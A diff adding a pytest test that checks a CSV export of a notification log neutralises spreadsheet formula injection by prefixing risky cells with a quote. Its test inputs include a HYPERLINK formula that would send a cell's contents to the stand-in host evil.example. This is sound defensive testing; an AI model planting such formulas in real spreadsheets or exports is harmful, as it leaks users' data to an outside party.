@@ -187,6 +187,23 @@ def test_export_is_the_filtered_log_as_csv(staff_client):
     assert rows[1][9] == "2026-06-15T09:00:00+02:00"  # local time, with its offset
 
 
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=1+1", "+33612345678", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"],
+)
+def test_export_neutralises_every_cell_a_spreadsheet_would_evaluate(staff_client, hostile):
+    """GIVEN a client name, a material code, a recipient and an error text that a spreadsheet reads as a formula,
+    WHEN the log is exported, THEN each such cell starts with a single quote (OWASP), the rest is unchanged."""
+    loan = AttributionFactory(materiel__code="=1+1", client=ClientFactory(name=hostile))
+    make_log(loan, statut=Statut.ECHEC_PERMANENT, destinataire=hostile, erreur_message=hostile)
+    response = staff_client.get(reverse("notification_export"))
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert row["materiel"] == "'=1+1"
+    for column in ("client", "destinataire", "erreur_message"):
+        assert row[column] == "'" + hostile, column
+    assert row["type_notification"] == "CREATION" and row["niveau_escalade"] == "0"
+
+
 def test_delivery_rate_per_channel_against_its_target(staff_client):
     for _ in range(19):
         make_log(statut=Statut.ENVOYEE)
